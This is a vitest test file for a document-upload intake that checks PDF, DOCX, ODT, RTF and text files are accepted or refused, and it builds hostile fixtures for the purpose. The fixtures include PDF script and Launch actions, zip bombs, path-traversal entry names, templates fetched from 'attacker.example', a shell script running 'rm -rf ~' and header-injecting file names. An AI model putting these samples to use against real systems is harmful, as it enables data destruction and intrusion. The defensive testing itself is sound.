// Intake of uploaded documents: every fixture is built here, hostile ones included, so each test
// shows exactly which bytes are accepted or refused.
import { createHash } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import yazl from "yazl";
import { SCAN_CHUNK_BYTES } from "./document-checks.server";
import {
  DOCUMENT_MAX_BYTES,
  documentFileName,
  downloadHeaders,
  pdfPreviewHeaders,
  receiveDocument,
  type ReceivedDocument,
  sweepUploadTemp,
} from "./upload.server";

let tempDir: string;
beforeAll(async () => {
  tempDir = await mkdtemp(path.join(os.tmpdir(), "openhire-upload-test-"));
});
afterAll(async () => {
  await rm(tempDir, { recursive: true, force: true });
});

/** Receives `bytes` as an upload arrives: in chunks of 64 KB. */
async function receive(bytes: Buffer | string, options: { maxBytes?: number } = {}): Promise<ReceivedDocument> {
  const buffer = typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes;
  const chunks = [];
  for (let at = 0; at < buffer.length; at += 64 * 1024) chunks.push(buffer.subarray(at, at + 64 * 1024));
  return receiveDocument(Readable.from(chunks), { tempDir, ...options });
}

async function expectAccepted(bytes: Buffer | string, kind: string) {
  const received = await receive(bytes);
  if (!received.ok) throw new Error(`refused as ${received.reason}: ${received.detail}`);
  expect(received.kind).toBe(kind);
  await received.dispose();
  return received;
}

async function expectRefused(bytes: Buffer | string, reason: string, detail?: RegExp) {
  const received = await receive(bytes);
  if (received.ok) {
    await received.dispose();
    throw new Error(`accepted as ${received.kind}`);
  }
  expect(received.reason).toBe(reason);
  if (detail) expect(received.detail).toMatch(detail);
  // A refused upload leaves nothing behind.
  expect(await readdir(tempDir)).toEqual([]);
  return received;
}

// ---------------------------------------------------------------------------------------------
// PDF fixtures: a real, minimal PDF with a correct cross-reference table, built from its objects.

function pdf(objects: string[], { trailer = "", before = "" } = {}): Buffer {
  let body = `${before}%PDF-1.7\n%\xe2\xe3\xcf\xd3\n`;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

const PAGE_OBJECTS = [
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
  "<< /Length 44 >>\nstream\nBT /F1 24 Tf 72 720 Td (Jane Doe, CV) Tj ET\nendstream",
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];
const catalogWith = (entries: string) => [`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, ...PAGE_OBJECTS.slice(1)];
/** A stream object whose data is binary, as images and fonts are. */
const binaryStream = (data: Buffer) => `<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n${data.toString("latin1")}\nendstream`;
/** A PDF 1.5 object stream holding `objects`, compressed as writers do. */
function objectStream(objects: string[]): string {
  let header = "";
  let body = "";
  objects.forEach((object, index) => {
    header += `${100 + index} ${body.length} `;
    body += `${object}\n`;
  });
  const data = deflateSync(Buffer.from(header + body, "latin1"));
  return `<< /Type /ObjStm /N ${objects.length} /First ${header.length} /Length ${data.length} /Filter /FlateDecode >>\nstream\n${data.toString("latin1")}\nendstream`;
}

describe("receiveDocument: PDF", () => {
  it("accepts a PDF, whatever the name it was uploaded under, with its canonical type, size and SHA-256", async () => {
    const bytes = pdf(PAGE_OBJECTS);
    const received = await receive(bytes);
    if (!received.ok) throw new Error(received.detail);
    expect(received).toMatchObject({ kind: "pdf", contentType: "application/pdf", size: bytes.length });
    expect(received.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
    expect((await readFile(received.path)).equals(bytes)).toBe(true);
    expect((await stat(received.path)).mode & 0o777).toBe(0o600);
    await received.dispose();
    await received.dispose();
    expect(await readdir(tempDir)).toEqual([]);
  });

  it("accepts a PDF after a byte-order mark and whitespace, as the specification allows", async () => {
    await expectAccepted(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from("\r\n  "), pdf(PAGE_OBJECTS)]), "pdf");
  });

  it("accepts links, a page to open at, and megabytes of binary image data", async () => {
    // Random bytes stand in for compressed images: they must not be taken for active content.
    const image = Buffer.from(Array.from({ length: 2 * 1024 * 1024 }, (_, index) => (index * 2654435761) >>> 24));
    await expectAccepted(
      pdf([...catalogWith("/OpenAction [3 0 R /Fit]"), "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>", binaryStream(image)]),
      "pdf",
    );
  });

  it.each([
    ["an /OpenAction script", "/OpenAction << /S /JavaScript /JS (app.alert('hi')) >>", /JavaScript/],
    ["a document-level script", "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.print()) >>] >> >>", /JavaScript/],
    ["a script whose name is hex-escaped", "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>", /JavaScript/],
    ["a Launch action", "/OpenAction << /S /Launch /F (cmd.exe) >>", /Launch/],
    ["an attached file", "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>", /EmbeddedFiles/],
    ["an XFA form", "/AcroForm << /XFA 9 0 R >>", /XFA/],
  ])("refuses a PDF with %s", async (_, catalogEntries, detail) => {
    await expectRefused(pdf(catalogWith(catalogEntries)), "unsafe", detail);
  });

  it.each([1, 2, 5, 10])("refuses a script whose name the scan's chunks cut %i characters in", async (cut) => {
    const plain = pdf(catalogWith("/OpenAction << /S /JavaScript /JS (1) >>"));
    // A comment after the header pads the file so that the chunk ends `cut` characters into `/JavaScript`.
    const padding = `%${"x".repeat(SCAN_CHUNK_BYTES - cut - plain.indexOf("/JavaScript") - 2)}\n`;
    const bytes = Buffer.concat([plain.subarray(0, 9), Buffer.from(padding), plain.subarray(9)]);
    expect(bytes.indexOf("/JavaScript")).toBe(SCAN_CHUNK_BYTES - cut);
    await expectRefused(bytes, "unsafe", /\/JavaScript/);
  });

  it("refuses a script hidden in a compressed object stream", async () => {
    const hidden = objectStream(["<< /S /JavaScript /JS (app.alert(1)) >>", "<< /Type /Annot >>"]);
    await expectRefused(pdf([...catalogWith("/OpenAction 100 0 R"), hidden]), "unsafe", /object stream: \/JavaScript/);
  });

  it("accepts a harmless compressed object stream", async () => {
    await expectAccepted(pdf([...PAGE_OBJECTS, objectStream(["<< /Type /Annot /Subtype /Link >>"])]), "pdf");
  });

  it("refuses an encrypted PDF, whose contents cannot be checked", async () => {
    await expectRefused(pdf(PAGE_OBJECTS, { trailer: "/Encrypt << /Filter /Standard /V 2 >> " }), "unsafe", /encrypted/);
  });

  it("refuses a PDF header after other content: an HTML page that is also a PDF", async () => {
    await expectRefused(pdf(PAGE_OBJECTS, { before: "<html><script>alert(1)</script>\n" }), "unsafe", /polyglot/);
  });

  it("refuses script markup in a PDF's first bytes", async () => {
    await expectRefused(pdf(["<< /Type /Catalog /Pages 2 0 R >>\n%<script>alert(1)</script>", ...PAGE_OBJECTS.slice(1)]), "unsafe", /markup/);
  });

  it("refuses a PDF that is also a zip (a central directory at its end)", async () => {
    const zip = await zipOf([{ name: "payload.html", data: Buffer.from("<script>alert(1)</script>") }]);
    await expectRefused(Buffer.concat([pdf(PAGE_OBJECTS), zip]), "unsafe", /zip central directory/);
  });
});

// ---------------------------------------------------------------------------------------------
// Zip fixtures: DOCX and ODT as Word and LibreOffice write them, with yazl; hand-made zips for what
// no honest zip writer makes.

type ZipEntry = { name: string; data: Buffer | Readable; compress?: boolean };

function zipOf(entries: ZipEntry[]): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const entry of entries) {
    if (Buffer.isBuffer(entry.data)) zip.addBuffer(entry.data, entry.name, { compress: entry.compress ?? true });
    else zip.addReadStream(entry.data, entry.name, { compress: entry.compress ?? true });
  }
  zip.end();
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    zip.outputStream.on("data", (chunk: Buffer) => chunks.push(chunk)).on("end", () => resolve(Buffer.concat(chunks))).on("error", reject);
  });
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const PACKAGE_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const DOCUMENT_XML = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Jane Doe, CV</w:t></w:r></w:p></w:body></w:document>`;
const relationship = (type: string, target: string, external = false) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/></Relationships>`;

const docxEntries = (): ZipEntry[] => [
  { name: "[Content_Types].xml", data: Buffer.from(CONTENT_TYPES) },
  { name: "_rels/.rels", data: Buffer.from(PACKAGE_RELS) },
  { name: "word/document.xml", data: Buffer.from(DOCUMENT_XML) },
];
const docx = (...extra: ZipEntry[]) => zipOf([...docxEntries(), ...extra]);

const ODT_MIMETYPE = "application/vnd.oasis.opendocument.text";
const odtEntries = (): ZipEntry[] => [
  { name: "mimetype", data: Buffer.from(ODT_MIMETYPE), compress: false },
  { name: "content.xml", data: Buffer.from('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>') },
  { name: "META-INF/manifest.xml", data: Buffer.from('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>') },
];

/** `bytes` zero bytes as a stream, a megabyte at a time, never all in memory. */
function zeros(bytes: number): Readable {
  const megabyte = Buffer.alloc(1024 * 1024);
  return Readable.from(
    (function* () {
      for (let left = bytes; left > 0; left -= megabyte.length) yield megabyte.subarray(0, Math.min(left, megabyte.length));
    })(),
  );
}

/**
 * A zip written byte by byte, for what zip writers refuse to make: entries that share their data,
 * encrypted flags, names that climb out of the folder.
 */
function handMadeZip(entries: { name: string; data: Buffer; flags?: number; declaredSize?: number }[], { repeatCentralEntries = 1 } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, flags = 0, declaredSize = data.length } of entries) {
    const compressed = deflateRawSync(data);
    const nameBytes = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(declaredSize, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(declaredSize, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    for (let copy = 0; copy < repeatCentralEntries; copy++) centrals.push(central, nameBytes);
    locals.push(local, nameBytes, compressed);
    offset += 30 + nameBytes.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length * repeatCentralEntries, 8);
  end.writeUInt16LE(entries.length * repeatCentralEntries, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

describe("receiveDocument: DOCX and ODT", () => {
  it("accepts a DOCX with its canonical type", async () => {
    const received = await expectAccepted(await docx(), "docx");
    expect(received.contentType).toBe("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
  });

  it("accepts a DOCX with images, embedded fonts and hyperlinks", async () => {
    await expectAccepted(
      await docx(
        { name: "word/media/image1.png", data: Buffer.from("\x89PNG\r\n\x1a\n0000IHDR", "latin1") },
        { name: "word/fonts/font1.odttf", data: Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 37) & 0xff)) },
        { name: "word/_rels/document.xml.rels", data: Buffer.from(relationship("hyperlink", "https://example.com/jane", true)) },
      ),
      "docx",
    );
  });

  it("accepts an ODT, whose uncompressed mimetype entry comes first", async () => {
    const received = await expectAccepted(await zipOf(odtEntries()), "odt");
    expect(received.contentType).toBe(ODT_MIMETYPE);
  });

  it("does not take a zip for an ODT when its mimetype entry is compressed or another type", async () => {
    const [mimetype, ...rest] = odtEntries();
    await expectRefused(await zipOf([{ ...mimetype!, compress: true }, ...rest]), "unsupported");
    await expectRefused(await zipOf([{ ...mimetype!, data: Buffer.from("application/vnd.oasis.opendocument.spreadsheet") }, ...rest]), "unsupported");
  });

  it("refuses a zip that is neither a DOCX nor an ODT, as not a document it takes", async () => {
    await expectRefused(await zipOf([{ name: "cv.pdf", data: pdf(PAGE_OBJECTS) }]), "unsupported", /neither/);
    await expectRefused(await zipOf([{ name: "cv.docx", data: await docx() }]), "unsupported", /neither/);
  });

  it("refuses a zip bomb: one entry of 200 MB of zeros", async () => {
    const bomb = await zipOf([...docxEntries(), { name: "word/media/image1.png", data: zeros(200 * 1024 * 1024) }]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    await expectRefused(bomb, "unsafe", /expands to over|compressed over/);
  });

  it("refuses an entry compressed more than 100 to 1, even when the whole is small", async () => {
    await expectRefused(await docx({ name: "word/media/image1.png", data: zeros(5 * 1024 * 1024) }), "unsafe", /compressed over 100:1/);
  });

  it("refuses entries that share their data, how small zips declare huge contents", async () => {
    const shared = handMadeZip([{ name: "word/document.xml", data: Buffer.from(DOCUMENT_XML) }], { repeatCentralEntries: 3 });
    await expectRefused(shared, "unsafe", /overlapping/);
  });

  it("refuses an entry that inflates to more than its declared size", async () => {
    const lying = handMadeZip([
      { name: "[Content_Types].xml", data: Buffer.from(CONTENT_TYPES) },
      { name: "word/document.xml", data: Buffer.alloc(3 * 1024 * 1024, "<w:p/>"), declaredSize: 1000 },
    ]);
    await expectRefused(lying, "unsafe", /too many bytes/);
  });

  it("refuses a zip of more than 2,000 entries", async () => {
    const many = Array.from({ length: 2001 }, (_, index) => ({ name: `word/media/x${index}.xml`, data: Buffer.from("<x/>") }));
    await expectRefused(await docx(...many), "unsafe", /2004 entries/);
  });

  it.each([
    ["a zip", "word/media/image1.png", () => zipOf([{ name: "a.txt", data: Buffer.from("inside") }])],
    ["a zip named as such", "word/media/archive.zip", async () => Buffer.from("not even a zip")],
    ["a spreadsheet (itself a zip)", "word/embeddings/Microsoft_Excel_Worksheet.xlsx", async () => Buffer.from("x")],
    ["an OLE object", "word/media/object.bin", async () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])],
    ["a program", "word/media/image2.png", async () => Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1")],
    ["macros", "word/vbaProject.bin", async () => Buffer.from("x")],
    ["an ActiveX control", "word/activeX/activeX1.xml", async () => Buffer.from("<x/>")],
  ])("refuses a DOCX holding %s", async (_, name, data) => {
    await expectRefused(await docx({ name, data: await data() }), "unsafe");
  });

  it("refuses a macro-enabled Word document", async () => {
    const [, ...rest] = docxEntries();
    const macroTypes = CONTENT_TYPES.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml");
    await expectRefused(await zipOf([{ name: "[Content_Types].xml", data: Buffer.from(macroTypes) }, ...rest]), "unsafe", /macro-enabled/);
  });

  it("refuses a DOCX that fetches a template from elsewhere when opened", async () => {
    const settingsRels = relationship("attachedTemplate", "https://attacker.example/t.dotm", true);
    await expectRefused(await docx({ name: "word/_rels/settings.xml.rels", data: Buffer.from(settingsRels) }), "unsafe", /external relationship/);
  });

  it("refuses an ODT with macros", async () => {
    await expectRefused(await zipOf([...odtEntries(), { name: "Basic/Standard/Module1.xml", data: Buffer.from("<x/>") }]), "unsafe", /macros/);
  });

  it("refuses encrypted entries", async () => {
    await expectRefused(handMadeZip([{ name: "word/document.xml", data: Buffer.from(DOCUMENT_XML), flags: 1 }]), "unsafe", /encrypted/);
  });

  it("refuses entry names that climb out of their folder", async () => {
    await expectRefused(handMadeZip([{ name: "../../evil.xml", data: Buffer.from("<x/>") }]), "unsafe", /malformed zip/);
  });

  it("refuses a DOCX that is also a PDF (a PDF header in its first KB)", async () => {
    await expectRefused(await zipOf([{ name: "a", data: Buffer.from("%PDF-1.7\n"), compress: false }, ...docxEntries()]), "unsafe", /polyglot/);
  });
});

describe("receiveDocument: RTF", () => {
  it("accepts an RTF document", async () => {
    const received = await expectAccepted("{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard Jane Doe, CV\\par}", "rtf");
    expect(received.contentType).toBe("application/rtf");
  });

  it.each([
    ["an embedded OLE object", "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}"],
    ["a template fetched from elsewhere", "{\\rtf1{\\*\\template http://attacker.example/t.dot}Jane}"],
  ])("refuses an RTF with %s", async (_, rtf) => {
    await expectRefused(rtf, "unsafe", /RTF control word/);
  });

  it.each([1, 3, 6])("refuses an embedded object whose control word the scan's chunks cut %i characters in", async (cut) => {
    const before = "{\\rtf1 ";
    const padding = "x".repeat(SCAN_CHUNK_BYTES - before.length - cut);
    await expectRefused(`${before}${padding}\\object{\\*\\objdata 01050000}}`, "unsafe", /RTF control word \\object/);
  });
});

describe("receiveDocument: plain text", () => {
  it("accepts UTF-8 text, with or without a byte-order mark, unchanged", async () => {
    const text = "Jane Doe — Développeuse\r\n\tCompétences: TypeScript, <html> and CSS\f\n";
    const received = await expectAccepted(Buffer.from(text), "txt");
    expect(received.contentType).toBe("text/plain; charset=utf-8");
    expect(received.sha256).toBe(createHash("sha256").update(text).digest("hex"));
    await expectAccepted(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), "txt");
  });

  it.each(["utf-16le", "utf-16be"] as const)("accepts %s text with a byte-order mark and keeps it as UTF-8", async (encoding) => {
    const text = "Jane Doe — Développeuse 🚀\n";
    const little = Buffer.from(`\ufeff${text}`, "utf16le");
    const bytes = encoding === "utf-16le" ? little : Buffer.from(little).swap16();
    const received = await receive(bytes);
    if (!received.ok) throw new Error(received.detail);
    expect(received.kind).toBe("txt");
    const stored = await readFile(received.path);
    expect(stored.toString("utf8")).toBe(text);
    expect(received.size).toBe(stored.length);
    expect(received.sha256).toBe(createHash("sha256").update(stored).digest("hex"));
    await received.dispose();
    expect(await readdir(tempDir)).toEqual([]);
  });

  it("refuses text that is not valid UTF-8 (Latin-1 bytes), or holds control characters", async () => {
    await expectRefused(Buffer.from("D\xe9veloppeuse", "latin1"), "unsupported", /not valid utf-8/);
    await expectRefused("Jane\x00Doe", "unsupported", /control characters/);
    await expectRefused("Jane\x1b[31mDoe", "unsupported", /control characters/);
    await expectRefused(Buffer.from("\ufeffJane\ud800", "utf16le"), "unsupported", /not valid utf-16le/);
  });

  it("calls a file of whitespace only empty", async () => {
    const refused = await expectRefused(" \r\n\t\n", "empty");
    expect(refused.message).toBe("The file is empty.");
  });

  it.each([
    ["an HTML page", "<!DOCTYPE html><html><body>Jane</body></html>"],
    ["an HTML fragment after whitespace", "\n  <script>alert(1)</script>"],
    ["an SVG image", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ["an XML document", '<?xml version="1.0"?><cv/>'],
  ])("refuses %s", async (_, text) => {
    await expectRefused(text, "unsafe", /markup/);
  });
});

describe("receiveDocument: programs and other files", () => {
  it.each([
    ["a Windows program named cv.pdf", Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00", "latin1"), Buffer.alloc(200)]), /MZ/],
    ["an ELF program", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]), /ELF/],
    ["a Mach-O program", Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(200)]), /Mach-O/],
    ["a shell script", Buffer.from("#!/bin/sh\nrm -rf ~\n"), /script/],
  ])("refuses %s as unsafe", async (_, bytes, detail) => {
    const refused = await expectRefused(bytes, "unsafe", detail);
    expect(refused.message).toBe("This file can't be accepted. Upload a PDF, DOCX, ODT, RTF or TXT file.");
  });

  it.each([
    ["an old Word .doc", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)])],
    ["a PNG image", Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(100)])],
    ["a gzip archive", Buffer.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3])],
  ])("refuses %s as not a document it takes", async (_, bytes) => {
    const refused = await expectRefused(bytes, "unsupported");
    expect(refused.message).toBe("Upload a PDF, DOCX, ODT, RTF or TXT file.");
  });

  it("refuses an empty file", async () => {
    const refused = await expectRefused(Buffer.alloc(0), "empty");
    expect(refused.message).toBe("The file is empty.");
  });
});

describe("receiveDocument: size and streaming", () => {
  it("accepts a document of exactly 10 MB", async () => {
    await expectAccepted(Buffer.alloc(DOCUMENT_MAX_BYTES, "a"), "txt");
  });

  it("stops reading at 10 MB + 1 byte, holding one chunk at a time, and keeps nothing", async () => {
    // An endless body: only stopping at the limit ends the test, and the counter shows how far it read.
    const chunk = Buffer.alloc(64 * 1024, "a");
    let pulled = 0;
    let cancelled = false;
    const endless = Readable.from(
      (function* () {
        try {
          for (;;) {
            pulled += chunk.length;
            yield chunk;
          }
        } finally {
          cancelled = true;
        }
      })(),
    );
    const before = process.memoryUsage().rss;
    const received = await receiveDocument(endless, { tempDir });
    expect(received).toMatchObject({ ok: false, reason: "too_large", message: "The file is larger than 10 MB." });
    expect(pulled).toBeLessThanOrEqual(DOCUMENT_MAX_BYTES + 2 * chunk.length);
    expect(cancelled).toBe(true);
    // One 64 KB chunk is reused, so what the intake holds is bounded by its own buffers, far below 10 MB.
    expect(process.memoryUsage().rss - before).toBeLessThan(8 * 1024 * 1024);
    expect(await readdir(tempDir)).toEqual([]);
  });

  it("applies a smaller limit when asked", async () => {
    const received = await receive("a".repeat(1001), { maxBytes: 1000 });
    expect(received).toMatchObject({ ok: false, reason: "too_large" });
  });

  it("takes a web ReadableStream (a multipart parser's file) as well as a Node stream", async () => {
    const bytes = pdf(PAGE_OBJECTS);
    const web = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new Uint8Array(bytes.subarray(0, 100)));
        controller.enqueue(new Uint8Array(bytes.subarray(100)));
        controller.close();
      },
    });
    const received = await receiveDocument(web, { tempDir });
    expect(received).toMatchObject({ ok: true, kind: "pdf", size: bytes.length });
    if (received.ok) await received.dispose();
  });

  it("cancels an endless web ReadableStream at 10 MB + 1 byte", async () => {
    const chunk = new Uint8Array(64 * 1024).fill(0x61);
    let pulled = 0;
    let cancelled = false;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        pulled += chunk.length;
        controller.enqueue(chunk);
      },
      cancel() {
        cancelled = true;
      },
    });
    const received = await receiveDocument(endless, { tempDir });
    expect(received).toMatchObject({ ok: false, reason: "too_large" });
    expect(pulled).toBeLessThanOrEqual(DOCUMENT_MAX_BYTES + 3 * chunk.length);
    expect(cancelled).toBe(true);
    expect(await readdir(tempDir)).toEqual([]);
  });

  it("rejects with the body's error when the upload breaks off, leaving nothing behind", async () => {
    const broken = Readable.from(
      (async function* () {
        yield Buffer.from("%PDF-1.7\n");
        throw new Error("client went away");
      })(),
    );
    await expect(receiveDocument(broken, { tempDir })).rejects.toThrow("client went away");
    expect(await readdir(tempDir)).toEqual([]);
  });
});

describe("sweepUploadTemp", () => {
  it("removes the temporary files of uploads that never finished, and nothing else", async () => {
    const folder = await mkdtemp(path.join(os.tmpdir(), "openhire-sweep-test-"));
    try {
      const old = path.join(folder, "upload-0f8fad5b-d9cb-469f-a165-70867728950e");
      const recent = path.join(folder, "upload-7c9e6679-7425-40de-944b-e07fc1f90ae7");
      const other = path.join(folder, "notes.txt");
      for (const file of [old, recent, other]) await writeFile(file, "x");
      const twoHoursAgo = new Date(Date.now() - 2 * 60 * 60 * 1000);
      await utimes(old, twoHoursAgo, twoHoursAgo);
      await utimes(other, twoHoursAgo, twoHoursAgo);

      expect(await sweepUploadTemp({ tempDir: folder })).toBe(1);
      expect((await readdir(folder)).sort()).toEqual(["notes.txt", path.basename(recent)]);
      expect(await sweepUploadTemp({ tempDir: path.join(folder, "missing") })).toBe(0);
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  });
});

describe("serving a stored document", () => {
  it("downloads as an attachment with the canonical type, sniffing off and everything sandboxed", () => {
    expect(downloadHeaders("pdf", "Jane Doe CV.pdf")).toEqual({
      "Content-Type": "application/pdf",
      "Content-Disposition": `attachment; filename="Jane Doe CV.pdf"; filename*=UTF-8''Jane%20Doe%20CV.pdf`,
      "X-Content-Type-Options": "nosniff",
      "Content-Security-Policy": "sandbox; default-src 'none'",
      "Cache-Control": "private, no-store",
      "Cross-Origin-Resource-Policy": "same-origin",
    });
  });

  it("names the file with its real kind's extension and no path, controls, quotes or direction tricks", () => {
    expect(documentFileName("txt", "resume.html")).toBe("resume.html.txt");
    expect(documentFileName("pdf", "C:\\Users\\jane\\cv.PDF")).toBe("cv.pdf");
    expect(documentFileName("pdf", "../../etc/passwd")).toBe("passwd.pdf");
    expect(documentFileName("pdf", "cv\u202Efdp.exe")).toBe("cvfdp.exe.pdf");
    expect(documentFileName("docx", "a\r\nSet-Cookie: x.docx")).toBe("aSet-Cookie: x.docx");
    expect(documentFileName("odt", "   ")).toBe("document.odt");
    expect(documentFileName("rtf", "x".repeat(500)).length).toBe(120);
  });

  it("keeps a name in any script in filename* and gives old clients an ASCII one", () => {
    const disposition = downloadHeaders("pdf", 'Zoë "Ω" 100%.pdf')["Content-Disposition"];
    expect(disposition).toBe(`attachment; filename="Zoe ___ 100_.pdf"; filename*=UTF-8''Zo%C3%AB%20%22%CE%A9%22%20100%25.pdf`);
  });

  it("shows a PDF inline, sandboxed by its own policy, for a frame of the app's own pages only", () => {
    expect(pdfPreviewHeaders("cv.pdf")).toEqual({
      "Content-Type": "application/pdf",
      "Content-Disposition": `inline; filename="cv.pdf"; filename*=UTF-8''cv.pdf`,
      "X-Content-Type-Options": "nosniff",
      "Content-Security-Policy": "sandbox; default-src 'none'; frame-ancestors 'self'",
      "Cache-Control": "private, no-store",
      "Cross-Origin-Resource-Policy": "same-origin",
    });
  });
});
